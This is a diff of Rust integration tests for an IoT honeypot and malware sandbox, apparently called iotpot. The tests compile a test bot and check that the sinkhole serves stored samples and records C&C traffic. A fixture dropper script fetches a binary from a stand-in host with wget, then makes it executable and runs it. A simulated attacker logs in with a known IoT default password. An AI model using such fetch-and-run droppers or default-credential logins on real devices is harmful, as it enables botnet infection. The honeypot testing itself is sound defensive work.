@@ -14,9 +14,10 @@ fn images() -> String {
     )
 }
 
-/// A config for `iotpot box analyze` in `dir`, and its report of `sample`.
+/// A config for `iotpot box analyze` in `dir` (data in `dir/data`), and
+/// its report of `sample`.
 fn analyze(dir: &TempDir, sample: &std::path::Path, seconds: &str) -> serde_json::Value {
-    let cfg = dir.0.join("iotpot.toml");
+    let cfg = dir.0.join("analyze.toml");
     std::fs::write(
         &cfg,
         format!(
@@ -151,23 +152,118 @@ fn box_analyze_reports_what_a_sample_tried() {
     assert_eq!(ev, [r#"{"10.0.2.0/24":1,"198.51.100.0/24":3}"#]);
 }
 
-/// A real static MIPS binary (compiled here with Debian's cross compiler):
-/// the sandbox is picked from its ELF header, its DNS query and its
-/// connection attempts to one /24 are in the report.
-#[test]
-fn box_analyze_runs_a_compiled_mips_binary() {
+/// The test bot (tests/data/bot.c), compiled here with Debian's cross
+/// compiler into a static MIPS little-endian binary at `dir/name`.
+fn compile_bot(dir: &TempDir, name: &str) -> std::path::PathBuf {
     require("mipsel-linux-gnu-gcc");
-    let dir = TempDir::new("analyze-elf");
-    let bot = dir.0.join("bot");
+    let bot = dir.0.join(name);
     run_ok(
         std::process::Command::new("mipsel-linux-gnu-gcc")
             .args(["-static", "-Os", "-s", "-o"])
             .arg(&bot)
             .arg(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/bot.c")),
     );
+    bot
+}
+
+/// The sinkhole's contact with `dst` in a report.
+fn contact<'a>(r: &'a serde_json::Value, dst: &str) -> &'a serde_json::Value {
+    r["contacts"]
+        .as_array()
+        .and_then(|c| c.iter().find(|c| c["dst"] == dst))
+        .unwrap_or_else(|| panic!("no contact with {dst}: {r}"))
+}
+
+/// A real static MIPS binary: the sandbox is picked from its ELF header;
+/// the sinkhole resolves its C&C's name and accepts the connection, and
+/// the report holds the hello the bot sent and its attempts on one /24.
+#[test]
+fn box_analyze_runs_a_compiled_mips_binary() {
+    let dir = TempDir::new("analyze-elf");
+    let bot = compile_bot(&dir, "bot");
     let r = analyze(&dir, &bot, "4");
     assert_eq!(r["arch"], "mipsel", "{r}");
     assert_eq!(r["dns"]["cnc.iotpot-test.example"], 1, "{r}");
+    assert_eq!(
+        r["resolved"]["cnc.iotpot-test.example"], "198.18.0.1",
+        "{r}"
+    );
+    let cnc = contact(&r, "198.18.0.1:6667");
+    assert_eq!(cnc["name"], "cnc.iotpot-test.example", "{r}");
+    assert_eq!(
+        cnc["first_bytes"],
+        hex::encode("HELLO iotpot-test\n"),
+        "{r}"
+    );
     assert_eq!(r["per_24"]["198.51.100.0/24"], 3, "{r}");
     assert_eq!(r["ports"]["23"], 3, "{r}");
+}
+
+/// The access manager end to end: an attacker's wget on the honeypot
+/// stores a bot (fetched on the host by the downloader); a dropper script
+/// run in a sandbox asks for the same file, and the sinkhole serves it
+/// from the sample store, so the second stage really runs in the sandbox
+/// and its own traffic is in the report.
+#[test]
+fn box_analyze_serves_downloads_from_the_sample_store() {
+    let www = TempDir::new("sinkhole-www");
+    std::fs::create_dir_all(www.0.join("bins")).unwrap();
+    let bot = compile_bot(&www, "bins/bot.mips");
+    let sha = {
+        use sha2::Digest;
+        hex::encode(sha2::Sha256::digest(std::fs::read(&bot).unwrap()))
+    };
+    let port = free_port();
+    let _http = http_server(&www.0, port);
+    let hp = Honeypot::start(
+        "sinkhole",
+        "dvr-xiongmai",
+        "[downloader]\nallow = [\"127.0.0.1/32\"]\n",
+    );
+    let mut attacker = Bot::connect(hp.addr);
+    attacker.login("root", "xc3511");
+    let url = format!("http://127.0.0.1:{port}/bins/bot.mips");
+    let out = attacker.cmd(&format!("cd /tmp; wget {url}"));
+    assert!(out.contains("100% |"), "{out}");
+    let db = rusqlite::Connection::open(hp.dir.0.join("data/iotpot.db")).unwrap();
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while column(
+        &db,
+        &format!("SELECT sha256 FROM sample_sources WHERE source = '{url}'"),
+    ) != [sha.clone()]
+    {
+        assert!(Instant::now() < deadline, "the sample was not stored");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    let script = hp.dir.0.join("dropper.sh");
+    std::fs::write(
+        &script,
+        "#!/bin/sh\ncd /tmp\nwget http://203.0.113.9/bins/bot.mips -O m\nchmod 755 m\n./m\n\
+         wget http://203.0.113.9/bins/missing.arm -O a\n",
+    )
+    .unwrap();
+    let r = analyze(&hp.dir, &script, "8");
+    let dl = contact(&r, "203.0.113.9:80");
+    assert_eq!(dl["served"], sha, "{r}");
+    // The file name did not match exactly (another host): the path did.
+    assert_eq!(dl["http"], "http://203.0.113.9/bins/bot.mips", "{r}");
+    let missing = r["contacts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["http"] == "http://203.0.113.9/bins/missing.arm")
+        .unwrap_or_else(|| panic!("{r}"));
+    assert_eq!(missing["served"], "404");
+    // The served bot ran: its own C&C hello and scan are in the report.
+    assert_eq!(
+        contact(&r, "198.18.0.1:6667")["first_bytes"],
+        hex::encode("HELLO iotpot-test\n"),
+        "{r}"
+    );
+    assert_eq!(r["per_24"]["198.51.100.0/24"], 3, "{r}");
+    let ev = column(
+        &db,
+        "SELECT json_extract(data, '$.contacts[0].served') FROM events WHERE eventid = 'iotpot.analysis.report'",
+    );
+    assert_eq!(ev, [sha]);
 }
